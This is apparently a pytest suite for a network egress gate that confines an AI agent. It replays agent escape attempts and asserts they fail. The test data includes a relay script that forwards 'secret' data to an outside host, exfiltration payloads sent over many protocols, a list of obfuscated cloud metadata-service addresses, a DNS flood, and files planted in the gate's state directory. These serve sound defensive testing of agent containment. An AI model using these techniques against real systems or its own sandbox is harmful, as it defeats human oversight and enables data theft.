"""Attacks of docs/attacks.md that no other file tries: each as the agent makes it, judged by what the wire shows."""

import itertools
import os
import signal
import socket

import pytest

from support.behaviours import addresses, host
from support.outcomes import assert_reached, assert_refused
from support.visitor import GATE, code
from support.waiting import eventually
from support.world import ALLOWED, ANOTHER, METADATA, PRIVATE, RESOLVER, UNLISTED
from test_destinations import LITERALS
from test_misdirection import header

HOOK, RELAY_PORT = "/opt/bin/hook", 7200
RELAY = f"""
import socket
listener = socket.create_server(("127.0.0.1", {RELAY_PORT}))
while True:
    peer, _ = listener.accept()
    try:
        with socket.create_connection((peer.recv(100).decode(), 443), 0.5) as out:
            out.sendall(b"secret")
        peer.sendall(b"sent")
    except OSError as error:
        peer.sendall(type(error).__name__.encode())
    peer.close()
"""


@pytest.fixture
def home(fresh_gatehouse, world):
    world.upstream.name("allowed.example", host(ALLOWED))
    return fresh_gatehouse()


def visit(home, place, *flags, **how):
    scope, who = place
    return home.visit("--scope", scope, *flags, who=who, **how)


# Destinations -----------------------------------------------------------------------------------------------

def as_booted(home, visitor, again):
    return visitor


def after_the_next_gate(home, visitor, again):
    os.kill(home.gate(visitor.session), signal.SIGKILL)
    home.eventually_audited("gate_restarted")
    return visitor


def after_a_repair(home, visitor, again):
    rules = home.rules()
    home.nft("flush", "ruleset")
    home.eventually_audited("tampering", response="repaired")
    eventually(lambda: home.rules() == rules, "the rules are back")
    return visitor


def after_a_second_boot(home, visitor, again):
    visitor.session.close_stdin()
    visitor.session.wait()
    return again()


def by_every_protocol(family, address):
    """UDP, UDP-Lite, SCTP, ping; with an echo request, which is only octets to the others."""
    ping, echo = (socket.IPPROTO_ICMP, 8) if family == 4 else (socket.IPPROTO_ICMPV6, 128)
    return f"""
where = socket.getaddrinfo({address!r}, 5353)[0][4]
for kind, protocol in ((2, 17), (2, 136), (1, 132), (2, {ping})):
    try:
        with socket.socket(socket.AF_INET{'6' if family == 6 else ''}, kind, protocol) as s:
            s.sendto(bytes([{echo}, 0, 0, 0, 0, 1, 0, 1]) + b"secret", where)
    except OSError:
        pass"""


@pytest.mark.parametrize("state", [as_booted, after_the_next_gate, after_a_repair, after_a_second_boot])
def test_no_destination_opens_later(world, home, place, state, family):
    home.cable.network.sysctl("ipv4/ping_group_range", "0 2147483647")
    again = lambda: visit(home, place, "--allow", "allowed.example")
    visitor = state(home, again(), again)
    visitor.opens("allowed.example", family)
    assert_reached(visitor.connect(ALLOWED[family], 443))
    world.forget()
    for where, port, transport in itertools.product(LITERALS.values(), (443, 80, 853, 9999), ("tcp", "udp")):
        assert_refused(visitor.connect(where[family], port, transport), world)
    for port, transport in ((80, "tcp"), (853, "tcp"), (443, "udp"), (9999, "udp")):
        assert_refused(visitor.connect(ALLOWED[family], port, transport), world)
    group = {4: "224.0.0.251", 6: "ff02::fb%eth0"}[family]
    for address in (*(where[family] for where in LITERALS.values()), ALLOWED[family], group):
        visitor.python(by_every_protocol(family, address))
    assert world.packets() == []


def test_an_echo_request_to_an_admitted_address_is_not_sent(world, home, place, family):
    home.cable.network.sysctl("ipv4/ping_group_range", "0 2147483647")
    kind = "socket.AF_INET, socket.SOCK_DGRAM, 1" if family == 4 else "socket.AF_INET6, socket.SOCK_DGRAM, 58"
    ping = f"""
s = socket.socket({kind})
s.sendto(bytes([{8 if family == 4 else 128}, 0, 0, 0, 0, 1, 0, 1]) + b"secret", ({ALLOWED[family]!r}, 0))"""
    home.visit_without_gate("root").python(ping)
    eventually(world.packets, "without rules it leaves")
    visitor = visit(home, place, "--allow", "allowed.example")
    visitor.opens("allowed.example", family)
    world.forget()
    visitor.python(ping)
    assert world.packets() == []


PROTOCOLS = {47: "GRE", 132: "SCTP", 136: "UDP-Lite", 33: "DCCP", 4: "IPIP", 41: "IPv6 within", 50: "ESP"}


def test_a_container_inside_sends_no_other_protocol(world, home, who, family):
    source = "10.9.9.2" if family == 4 else "fd09::2"
    with home.container_inside(family), home.raw_inside(family) as out:
        def send_each(to):
            for protocol in PROTOCOLS:
                out.sendto(header(source, to, protocol, b"\0\x50\1\xbb" + b"secret" * 8), (to, 0))
        send_each(ALLOWED[family])
        seen = set()
        eventually(lambda: seen.update(packet.protocol for packet in world.packets()) or seen >= set(PROTOCOLS),
                   "without rules each leaves")
        visitor = home.visit("--allow", "allowed.example", who=who)
        visitor.opens("allowed.example", family)
        world.forget()
        for to in (ALLOWED[family], UNLISTED[family]):
            send_each(to)
        assert world.packets() == []


METADATA_SPELLINGS = [
    "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe", "169.254.43518",
    "169.16689662", "::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::",
    "fd00:ec2::254", "fd00:0ec2:0:0:0:0:0:254", "fd20:ce::254", "fe80::a9fe:a9fe%eth0", "169.254.170.2",
    "169.254.170.23", "100.100.100.200", "168.63.129.16", "192.0.0.192", "metadata", "metadata.google.internal",
    "instance-data", "169.254.169.254.nip.example", "metadata.allowed.example"]


def test_the_metadata_service_is_not_reached_by_any_spelling(world, home, place):
    for name in METADATA_SPELLINGS:
        world.upstream.name(name, addresses(*METADATA.values()))
    visitor = visit(home, place, "--allow", "*.allowed.example")
    world.forget()
    for spelling in METADATA_SPELLINGS:
        outcome = visitor.python(f"socket.create_connection(({spelling!r}, 80), 0.5).sendall(b'GET /')")
        assert not outcome["reached"] and world.strays() == [] and world.services.visits == [], (spelling, outcome)
    assert world.upstream.names() == {"metadata.allowed.example"}


# Names ------------------------------------------------------------------------------------------------------

def test_ten_thousand_labels_below_an_allowed_name_stay_inside(world, home, place, family):
    visitor = visit(home, place, "--allow", "allowed.example")
    world.forget()
    assert visitor.flood("k%d.allowed.example", 10_000, GATE[family], patience=60) == {
        "codes": {"3": 10_000}, "unanswered": 0}
    assert world.packets() == [] and world.upstream.queries == []


def test_of_ten_thousand_labels_below_a_wildcard_few_are_sent(world, home, place, family):
    """600 a minute; the flood may last into the next one."""
    world.upstream.name("*.wild.example", host(ALLOWED))
    visitor = visit(home, place, "--allow", "*.wild.example")
    flood = visitor.flood("k%d.wild.example", 10_000, GATE[family], patience=60)
    assert flood["unanswered"] == 0 and sum(flood["codes"].values()) == 10_000
    assert 0 < len(world.upstream.names()) <= 1_200
    assert world.strays() == []


def test_of_private_and_public_addresses_in_any_order_the_public_ones_are_told(world, home, place, family):
    given = [METADATA[family], PRIVATE[family], ALLOWED[family], ANOTHER[family]]
    visitor = visit(home, place, "--allow", "*.mixed.example")
    for number, order in enumerate(itertools.permutations(given)):
        name = f"n{number}.mixed.example"
        world.upstream.name(name, addresses(*order))
        assert visitor.opens(name, family) == sorted(given[2:]), order
    assert home.admitted_addresses() == set(given[2:])
    world.forget()
    for address in given[:2]:
        assert_refused(visitor.connect(address, 443), world)


@pytest.mark.parametrize("transport", ["udp", "tcp"])
@pytest.mark.parametrize("server", ["127.0.0.53", "127.0.0.54", "127.0.0.11"])
def test_a_resolver_of_this_host_is_not_asked_in_the_gates_place(world, home, place, server, transport):
    """Where systemd-resolved or Docker's resolver listens, whose questions would leave."""
    resolver = home.visit_without_gate("root")
    resolver.python(f"""
sys.listening = [socket.socket(socket.AF_INET, kind) for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM)]
for each in sys.listening:
    each.bind(({server!r}, 53))
    each.setblocking(False)
sys.listening[1].listen()""")
    visitor = visit(home, place, "--allow", "allowed.example", "--upstream", RESOLVER[4])
    world.forget()
    assert code(visitor.asks("unlisted.example", server=server, transport=transport)) == "NXDOMAIN"
    assert world.packets() == [] and world.upstream.queries == []
    for heard in ("sys.listening[0].recv(100)", "sys.listening[1].accept()"):
        assert resolver.python(heard).get("error") == "EAGAIN"


def test_a_resolver_with_dns_over_https_is_warned_of(world, home):
    world.upstream.name("dns.google", host(ALLOWED))
    flags = ["--allow", "dns.google"]
    assert any("dns.google:443/tcp" in each and "DNS over HTTPS" in each for each in home.plan(*flags)["warnings"])
    home.visit(*flags).session.read_error_until("warning: .*dns.google.*DNS over HTTPS")


# The policy -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("policy", ["{}", '{"allow": []}', '{"allow": null}', '{"allow": [ // "*"\n]}',
                                    '{ // "allow": ["*"]\n}'],
                         ids=["absent", "empty", "null", "a comment within", "a comment"])
def test_an_allow_without_entries_allows_nothing(world, home, place, policy):
    home.policy(policy)
    visitor = visit(home, place)
    world.forget()
    for family in (4, 6):
        assert_refused(visitor.connect(UNLISTED[family], 443), world)
        assert code(visitor.asks("allowed.example", server=RESOLVER[family])) == "NXDOMAIN"
    assert world.packets() == [] and world.upstream.queries == [] and home.admitted() == set()


# What was there before the agent ----------------------------------------------------------------------------

def test_a_relay_left_by_the_auth_hook_reaches_nothing(world, home, place, family):
    home.write("/opt/agents/relay.py", RELAY)
    home.script(HOOK, "setsid /usr/bin/python3 -IS /opt/agents/relay.py > /dev/null 2>&1 &")
    visitor = visit(home, place, "--auth-hook", HOOK)
    ask = f"""
s = socket.create_connection(("127.0.0.1", {RELAY_PORT}), 1)
s.sendall({UNLISTED[family]!r}.encode())
value = s.recv(100).decode()"""
    outcome = eventually(lambda: (tried := visitor.python(ask))["reached"] and tried, "the relay listens")
    assert outcome["answer"] in ("ConnectionRefusedError", "PermissionError"), outcome
    assert world.strays() == [] and world.services.visits == []


PLANTED = {"a socket": "socket.socket(socket.AF_UNIX).bind(name)", "a pipe": "os.mkfifo(name)",
           "a directory": "os.mkdir(name)", "a link": "os.symlink('/home/agent/elsewhere', name)"}


def leave_behind(home, who, names, planted):
    """A boot whose agent replaces files of the state, and whose keeper is killed before it can remove them."""
    visitor = home.visit("--allow", "allowed.example", who=who)
    outcome = visitor.python(f"""
os.chdir("/run/ostiary")
for name in {names!r}:
    if os.path.exists(name):
        os.unlink(name)
    {PLANTED[planted]}""")
    assert outcome["reached"] == (who == "root"), outcome
    visitor.session.signal(signal.SIGKILL)
    visitor.session.wait()


@pytest.mark.parametrize("planted", ["a socket", "a pipe", "a link"])
def test_files_and_sockets_that_the_agent_left_open_nothing_at_the_next_boot(world, home, who, planted):
    leave_behind(home, who, ["session", "status.json", "otel.env", "joined"], planted)
    visitor = home.visit("--allow", "allowed.example", who=who)
    world.forget()
    for family in (4, 6):
        assert_refused(visitor.connect(UNLISTED[family], 443), world)
        assert code(visitor.asks("unlisted.example", server=RESOLVER[family])) == "NXDOMAIN"
    assert world.packets() == [] and not home.exists("/home/agent/elsewhere")


@pytest.mark.parametrize("name, planted", [("lock", "a socket"), ("lock", "a directory"), ("lock", "a link"),
                                           ("session", "a directory")])
@pytest.mark.parametrize("who", ["root"])
def test_nor_do_those_that_cannot_be_replaced(world, home, who, name, planted):
    """The boot is refused."""
    leave_behind(home, who, [name], planted)
    result = home.boot("touch", "/work/started")
    assert result.status != 0 and f"error: /run/ostiary/{name}: " in result.stderr.splitlines()[-1], result
    assert "remove it" in result.stderr.splitlines()[-1], result
    assert not home.exists("/work/started") and not home.exists("/home/agent/elsewhere")
    stranger = home.visit_without_gate("root")
    world.forget()
    for family in (4, 6):
        assert_refused(stranger.connect(UNLISTED[family], 443), world)
